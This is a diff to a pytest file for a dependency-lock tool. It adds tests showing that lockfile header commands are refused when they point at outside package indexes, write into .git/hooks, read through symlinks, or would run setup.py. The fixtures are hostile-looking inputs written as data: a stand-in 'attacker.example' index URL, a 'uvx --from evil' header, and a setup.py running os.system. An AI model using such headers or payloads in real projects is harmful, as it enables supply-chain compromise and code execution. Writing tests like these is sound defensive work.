@@ -16,7 +16,6 @@ import pytest
 
 from advisor.errors import AdvisorError
 from advisor.index.source import IndexSource
-from advisor.write.locks import header_argv
 from advisor.write import (
     IndexHashLookup,
     Patch,
@@ -27,6 +26,9 @@ from advisor.write import (
     run_relock,
     unified_diff,
 )
+from advisor.write._base import Arm, Targets, Want
+from advisor.write.apply import save_files
+from advisor.write.locks import CompiledHeader, compile_commands, header_argv, header_refusal
 
 
 def patches(tmp_path: Path, count: int = 3) -> list[Patch]:
@@ -224,6 +226,23 @@ def test_a_missing_tool_is_reported_before_anything_runs(
     assert (tmp_path / "a.lock").read_text() == "old"
 
 
+@pytest.mark.skipif(sys.platform == "win32", reason="FIFOs")
+def test_relock_refuses_a_file_it_would_rewrite_that_is_a_fifo(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """run() saves each file before its tool runs: a FIFO is refused, never opened to wait."""
+    tool(tmp_path / "bin", "uv", "pathlib.Path('RAN').touch()")
+    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
+    os.mkfifo(tmp_path / "uv.lock")
+    with pytest.raises(WriteFailed) as info:
+        run_relock([RelockCommand(("uv", "lock"), tmp_path, tmp_path / "uv.lock", "")])
+    assert info.value.code == "relock-refused" and "named pipe" in info.value.message
+    assert not (tmp_path / "RAN").exists()
+    with pytest.raises(WriteFailed, match="named pipe"):  # swapped in after the check
+        save_files([tmp_path / "uv.lock"])
+    assert save_files([tmp_path / "absent.lock"]) == {tmp_path / "absent.lock": None}
+
+
 def test_relock_command_display() -> None:
     assert str(RelockCommand(("uv", "lock"), Path("."), Path("uv.lock"), "")) == "uv lock"
     assert (
@@ -308,9 +327,12 @@ def test_one_file_patched_twice_is_refused(tmp_path: Path) -> None:
     [
         ("pip-compile", "pip-compile --generate-hashes --output-file=requirements.txt requirements.in",
          ("pip-compile", "--generate-hashes", "--output-file=requirements.txt", "requirements.in")),
-        ("pip-compile", "pip-compile -o requirements/prod.txt requirements/prod.in --resolver backtracking",
-         ("pip-compile", "-o", "requirements/prod.txt", "requirements/prod.in", "--resolver",
-          "backtracking")),
+        ("pip-compile", "pip-compile -o ./requirements.txt in/prod.in --resolver backtracking -c c.txt",
+         ("pip-compile", "-o", "./requirements.txt", "in/prod.in", "--resolver", "backtracking",
+          "-c", "c.txt")),
+        ("pip-compile", "pip-compile requirements.in", ("pip-compile", "requirements.in")),
+        ("pip-compile", "pip-compile pyproject.toml", ("pip-compile", "pyproject.toml")),
+        ("pip-compile", "pip-compile --no-index", ("pip-compile", "--no-index")),  # requirements.in
         ("uv pip compile", "uv pip compile requirements.in -o requirements.txt --python-version 3.11 --universal",
          ("uv", "pip", "compile", "requirements.in", "-o", "requirements.txt", "--python-version",
           "3.11", "--universal")),
@@ -318,8 +340,11 @@ def test_one_file_patched_twice_is_refused(tmp_path: Path) -> None:
          ("uv", "export", "--frozen", "--no-hashes", "--output-file", "requirements.txt")),
     ],
 )
-def test_a_header_of_known_options_becomes_the_command(tool: str, header: str, argv: tuple[str, ...]) -> None:
-    assert header_argv(tool, header) == argv
+def test_a_header_of_known_options_becomes_the_command(
+    tmp_path: Path, tool: str, header: str, argv: tuple[str, ...]
+) -> None:
+    (tmp_path / "requirements.in").write_text("ddtrace\n")
+    assert header_argv(tool, header, tmp_path / "requirements.txt") == argv
 
 
 @pytest.mark.parametrize(
@@ -338,8 +363,117 @@ def test_a_header_of_known_options_becomes_the_command(tool: str, header: str, a
         ("uv export", "uvx --from evil uv export"),
     ],
 )
-def test_a_header_is_data_never_a_command(tool: str, header: str) -> None:
-    assert header_argv(tool, header) is None
+def test_a_header_is_data_never_a_command(tmp_path: Path, tool: str, header: str) -> None:
+    assert header_argv(tool, header, tmp_path / "requirements.txt") is None
+
+
+TARGETS = Targets(
+    {"ddtrace": Want("ddtrace", (Arm("4.6.0", "", ("3.12",)),), raise_floor=True)}, ("3.12",)
+)
+
+
+EVIL = "https://attacker.example/simple"
+PIN = "pip-compile -o requirements.txt"
+UPC = "uv pip compile -o requirements.txt"
+
+
+@pytest.mark.parametrize(
+    ("tool", "header", "why"),
+    [
+        ("pip-compile", f"{PIN} --extra-index-url={EVIL} --trusted-host=attacker.example r.in",
+         "--extra-index-url"),
+        ("pip-compile", f"{PIN} -i {EVIL} requirements.in", "-i"),
+        ("pip-compile", f"{PIN} --index-url {EVIL} requirements.in", "--index-url"),
+        ("pip-compile", f"{PIN} -f {EVIL} requirements.in", "-f"),
+        ("pip-compile", f"{PIN} --find-links={EVIL} requirements.in", "--find-links"),
+        ("pip-compile", f"{PIN} --trusted-host attacker.example requirements.in", "--trusted-host"),
+        ("uv pip compile", f"{UPC} --index {EVIL} requirements.in", "--index"),
+        ("uv pip compile", f"{UPC} --default-index={EVIL} requirements.in", "--default-index"),
+        ("uv pip compile", f"{UPC} --index-strategy unsafe-best-match requirements.in",
+         "--index-strategy"),
+        ("uv pip compile", f"{UPC} --extra-index-url {EVIL} requirements.in", "--extra-index-url"),
+    ],
+)
+def test_a_header_never_chooses_the_index(tmp_path: Path, tool: str, header: str, why: str) -> None:
+    """Before: the re-compile went to the header's index, trusted host and find-links page
+    (with the credentials pip holds); now there is no command and the reason names the option."""
+    (tmp_path / "requirements.in").write_text("ddtrace\n")
+    path = tmp_path / "requirements.txt"
+    assert compile_commands(CompiledHeader(tool, header, "3.12"), path, TARGETS) == []
+    said = header_refusal(tool, header, path)
+    assert said is not None and f"({why})" in said and "indexes are never taken from a file" in said
+    assert "attacker" not in said
+
+
+@pytest.mark.parametrize(
+    ("header", "why"),
+    [
+        ("pip-compile -o .git/hooks/x.txt requirements.in", "its output"),
+        ("pip-compile --output-file=other.txt requirements.in", "its output"),
+        ("pip-compile -o requirements.txt -o .git/config.txt requirements.in", "its output"),
+        ("pip-compile -o sub/requirements.txt requirements.in", "its output"),
+        ("pip-compile other.in", "its output"),  # pip-compile writes other.txt
+        ("pip-compile", "pip-compile would run setup.py"),  # no requirements.in, a setup.py
+        ("pip-compile -o requirements.txt -c .git/config.txt requirements.in", "under .git"),
+        ("pip-compile -o requirements.txt --constraint=sub/.GIT/x.txt requirements.in",
+         "under .git"),
+        ("pip-compile -o requirements.txt .git/x.in", "under .git"),
+        ("pip-compile -o requirements.txt -c gitlink/config.txt requirements.in", "under .git"),
+        ("pip-compile -o requirements.txt -c out/secret.txt requirements.in", "leading out"),
+        ("pip-compile -o requirements.txt outlink.in", "leading out"),
+        ("pip-compile -o requirements.txt requirements.in setup.py", "would run setup.py"),
+        ("pip-compile -o requirements.txt sub/setup.py", "would run setup.py"),
+        ("uv pip compile requirements.in", "writes no -o"),  # standard output
+        ("uv pip compile requirements.in -o requirements.txt --override out/o.txt", "leading out"),
+        ("uv export --frozen", "writes no -o"),
+        ("uv export --frozen -o .git/hooks/pre-commit.txt", "its output"),
+    ],
+)
+def test_a_header_command_writes_only_its_file_and_reads_inside_its_folder(
+    tmp_path: Path, header: str, why: str
+) -> None:
+    """Before, each of these was run by --relock and printed: -o could name any file of the
+    repository (.git/hooks included), -c and inputs any file a link reaches, setup.py was run."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.txt").write_text("token\n")
+    (outside / "o.txt").write_text("x\n")
+    (outside / "x.in").write_text("x\n")
+    repo = tmp_path / "repo"
+    (repo / ".git").mkdir(parents=True)
+    (repo / ".git" / "config.txt").write_text("[core]\n")
+    (repo / "setup.py").write_text("import os; os.system('id > PWNED')\n")
+    (repo / "other.in").write_text("ddtrace\n")
+    (repo / "out").symlink_to(outside, target_is_directory=True)
+    (repo / "outlink.in").symlink_to(outside / "x.in")
+    (repo / "gitlink").symlink_to(repo / ".git", target_is_directory=True)
+    if header != "pip-compile":
+        (repo / "requirements.in").write_text("ddtrace\n")
+    tool = "uv export" if header.startswith("uv export") else (
+        "uv pip compile" if header.startswith("uv pip") else "pip-compile"
+    )
+    path = repo / "requirements.txt"
+    assert compile_commands(CompiledHeader(tool, header, "3.12"), path, TARGETS) == []
+    said = header_refusal(tool, header, path)
+    assert said is not None and why in said, said
+
+
+def test_a_header_command_runs_in_the_folder_of_its_file(tmp_path: Path) -> None:
+    """The command runs beside the file, so its -o names the file from there: a header written
+    from the repository root (-o requirements/prod.txt) would write requirements/requirements/."""
+    folder = tmp_path / "requirements"
+    folder.mkdir()
+    (folder / "prod.in").write_text("ddtrace\n")
+    path = folder / "prod.txt"
+    [command] = compile_commands(
+        CompiledHeader("pip-compile", "pip-compile -o prod.txt prod.in", "3.12"), path, TARGETS
+    )
+    assert command.argv == (
+        "pip-compile", "-o", "prod.txt", "prod.in", "--upgrade-package", "ddtrace==4.6.0"
+    )
+    assert (command.cwd, command.file) == (folder, path)
+    rooted = "pip-compile -o requirements/prod.txt requirements/prod.in"
+    assert compile_commands(CompiledHeader("pip-compile", rooted, "3.12"), path, TARGETS) == []
 
 
 def test_relock_runs_only_lock_tools(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
